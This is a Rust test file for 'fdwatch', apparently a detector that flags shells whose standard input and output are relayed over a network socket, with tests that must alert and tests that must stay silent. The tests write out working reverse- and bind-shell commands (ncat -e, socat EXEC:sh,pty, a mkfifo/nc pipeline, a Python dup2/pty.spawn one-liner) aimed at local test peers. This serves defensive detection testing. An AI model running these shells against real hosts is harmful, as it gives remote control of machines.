//! stdio_hijack, shape relayed_shell (issue 15), with the real relays: ncat -e, socat
//! EXEC:sh,pty, the `mkfifo` + nc pipeline, an ncat bind shell, Python's pty.spawn
//! behind dup2 (one alert, not two); and what must not match: a terminal multiplexer
//! (tmux) and a pty relay without a network socket, and an allowed relay. Each runs as a
//! script under `fdwatch --pid <root> --follow` against a peer of the test (shells.rs).
use fdwatch_tests::{alerts::*, shells::*, *};

/// The one alert of the scenario.
#[track_caller]
fn only_alert(records: &[Value], what: &str) -> Value {
    let all = alert_records(records);
    assert_eq!(all.len(), 1, "{what}: one alert record, got:\n{all:#?}");
    all[0].clone()
}

/// Checks a relayed_shell alert: a critical alert about a shell `shell_comm`, relayed
/// by `relay_comm`, whose socket's peer is 127.0.0.1:`port` (or its local end for a
/// bind shell: `peer` is then None). Returns the shell's and the relay's pids.
#[track_caller]
fn check_relayed(alert: &Value, shell_comm: &str, relay_comm: &str, peer: Option<u16>) -> (i64, i64) {
    let shell = alert["pid"].as_i64().unwrap();
    assert_alert(
        alert,
        json!({
            "kind": "stdio_hijack", "severity": "critical", "pid": shell, "comm": shell_comm, "exe": ANY,
            "shape": "relayed_shell", "fds": ANY, "object": ANY, "relays": ANY,
        }),
    );
    let relays = alert["relays"].as_array().unwrap();
    let relay =
        relays.iter().find(|r| r["comm"] == relay_comm).unwrap_or_else(|| panic!("no relay {relay_comm}: {alert}"));
    let relay_pid = relay["pid"].as_i64().unwrap();
    assert_ne!(relay_pid, shell, "{alert}");
    assert_eq!(alert["object"]["type"], "socket", "{alert}");
    assert!(matches!(alert["object"]["domain"].as_str(), Some("AF_INET" | "AF_INET6")), "{alert}");
    if let Some(port) = peer {
        assert_eq!(alert["object"]["peer"], format!("127.0.0.1:{port}"), "{alert}");
    }
    // The chain: the shell's exec, a fact about each of its stdin and stdout, the socket.
    let ev = alert["evidence"].as_array().unwrap();
    assert!(ev.iter().any(|e| e["what"] == "event" && e["syscall"] == "exec" && e["pid"] == shell), "{alert}");
    for fd in [0, 1] {
        assert!(
            facts(alert)
                .iter()
                .any(|f| f["pid"] == shell && f["fd"] == fd && f["fact"].as_str().unwrap().contains("held only by")),
            "no fact about fd {fd} of the shell: {alert}"
        );
    }
    assert!(facts(alert).iter().any(|f| f["object"]["type"] == "socket"), "no fact about the socket: {alert}");
    let msg = alert["message"].as_str().unwrap();
    assert!(msg.contains(&format!("pid {shell} ({shell_comm}) is a shell reading its commands from stdin")), "{msg}");
    assert!(msg.contains(&format!("pid {relay_pid} ({relay_comm})")), "{msg}");
    (shell, relay_pid)
}

#[test]
fn ncat_e_is_a_relayed_shell() {
    let peer = Peer::listen("echo hello-from-ncat; exit\n");
    let (_, records) = run_script(&format!("exec ncat -e /bin/sh 127.0.0.1 {}", peer.port), &[], "ncat -e");
    assert!(peer.output("ncat -e").contains("hello-from-ncat"));
    let alert = only_alert(&records, "ncat -e");
    check_relayed(&alert, "sh", "ncat", Some(peer.port));
    assert!(alert["message"].as_str().unwrap().contains("(fd 0, a pipe)"), "{alert}");
}

#[test]
fn socat_exec_sh_pty_is_a_relayed_shell() {
    let peer = Peer::listen("echo hello-from-socat; exit\n");
    let script = format!("exec socat TCP:127.0.0.1:{} EXEC:sh,pty,stderr,setsid", peer.port);
    let (_, records) = run_script(&script, &[], "socat EXEC:sh,pty");
    assert!(peer.output("socat").contains("hello-from-socat"));
    let alert = only_alert(&records, "socat EXEC:sh,pty");
    check_relayed(&alert, "sh", "socat", Some(peer.port));
    let msg = alert["message"].as_str().unwrap();
    assert!(msg.contains("(fd 0, a pseudo-terminal)"), "{msg}");
    assert!(
        facts(&alert).iter().any(|f| f["fact"].as_str().unwrap().contains("its master is held only by")),
        "the pty's master: {alert}"
    );
}

/// `cat /tmp/f | sh -i 2>&1 | nc -N host port > /tmp/f` (-N: nc closes the connection
/// when the shell is done, so the pipeline ends): the shell starts before nc
/// connects; cat feeds it from the FIFO nc writes.
#[test]
fn a_fifo_and_nc_pipeline_is_a_relayed_shell() {
    let peer = Peer::listen("echo hello-from-fifo; exit\n");
    let fifo = TempPath::new("fifo");
    let script = format!(
        "mkfifo {f}; cat {f} | sh -i 2>&1 | nc.openbsd -N 127.0.0.1 {p} > {f}",
        f = fifo.as_str(),
        p = peer.port
    );
    let (_, records) = run_script(&script, &[], "mkfifo + nc");
    assert!(peer.output("the FIFO shell").contains("hello-from-fifo"));
    let alert = only_alert(&records, "mkfifo + nc");
    check_relayed(&alert, "sh", "nc.openbsd", Some(peer.port));
    let msg = alert["message"].as_str().unwrap();
    assert!(msg.contains("(cat)") && msg.contains("fed through another pipe by pid"), "{msg}");
}

/// A bind shell: ncat listens and runs the shell for whoever connects (the relay's
/// socket is an accepted one).
#[test]
fn an_ncat_bind_shell_is_a_relayed_shell() {
    let port = {
        // A free port for ncat to listen on.
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let scenario = start_script(&format!("exec ncat -l 127.0.0.1 {port} -e /bin/sh"), &[], "ncat -l -e");
    let peer = Peer::connect(port, "echo hello-from-bind; exit\n");
    assert!(peer.output("the bind shell").contains("hello-from-bind"));
    let records = scenario.finish("ncat -l -e");
    let alert = only_alert(&records, "ncat bind shell");
    check_relayed(&alert, "sh", "ncat", None);
    assert!(alert["object"]["peer"].as_str().unwrap().starts_with("127.0.0.1:"), "{alert}");
}

/// python's `os.dup2(s, 0..2)` then `pty.spawn("/bin/sh")`: the dup2s raise a pending
/// alert about the socket, the shell behind the pty is the same incident: one alert.
#[test]
fn python_dup2_then_pty_spawn_is_one_relayed_shell_alert() {
    let peer = Peer::listen("echo hello-from-pty; exit\n");
    let code = format!(
        "import socket,os,pty;s=socket.create_connection((\"127.0.0.1\",{}));\
         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
        peer.port
    );
    let (root, records) = run_script(&format!("exec {} -c '{code}'", python()), &[], "python pty.spawn");
    assert!(peer.output("pty.spawn").contains("hello-from-pty"));
    let alert = only_alert(&records, "python dup2 + pty.spawn");
    let (_, relay) = check_relayed(&alert, "sh", "python3", Some(peer.port));
    assert_eq!(relay, root, "python is the relay: {alert}");
    // The dup2s of the socket are in the same alert.
    find_evidence(&alert, "event", root, "dup2", json!({"newfd": 0}), 0, None);
}

/// A terminal multiplexer holds pty masters but no network socket: no alert.
#[test]
fn a_shell_in_tmux_raises_nothing() {
    let socket = TempPath::new("tmux");
    let script = format!(
        "tmux -S {s} new-session -d 'sh -c \"echo in-tmux; sleep 1\"'; sleep 1.5; tmux -S {s} kill-server 2>/dev/null; true",
        s = socket.as_str()
    );
    let (_, records) = run_script(&script, &[], "sh in tmux");
    assert_no_alerts(&records, "a shell in tmux");
}

/// python's pty.spawn of a shell in a process without a network socket: no alert.
#[test]
fn a_pty_relay_without_a_network_socket_raises_nothing() {
    let script =
        format!("printf 'echo in-pty\\nexit\\n' | {} -c 'import pty; pty.spawn(\"/bin/sh\")' > /dev/null", python());
    let (_, records) = run_script(&script, &[], "pty.spawn without network");
    assert_no_alerts(&records, "pty.spawn without a network socket");
}

#[test]
fn an_allowed_relay_raises_nothing() {
    let peer = Peer::listen("exit\n");
    let ncat = std::fs::canonicalize(
        std::process::Command::new("sh")
            .args(["-c", "command -v ncat"])
            .output()
            .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
            .unwrap(),
    )
    .unwrap();
    let rule = format!("exe={}", ncat.to_str().unwrap());
    let (_, records) = run_script(
        &format!("exec {} -e /bin/sh 127.0.0.1 {}", ncat.display(), peer.port),
        &["--allow", &rule],
        "ncat -e allowed",
    );
    peer.output("ncat -e");
    assert_no_alerts(&records, "ncat -e under --allow exe=<ncat>");
}
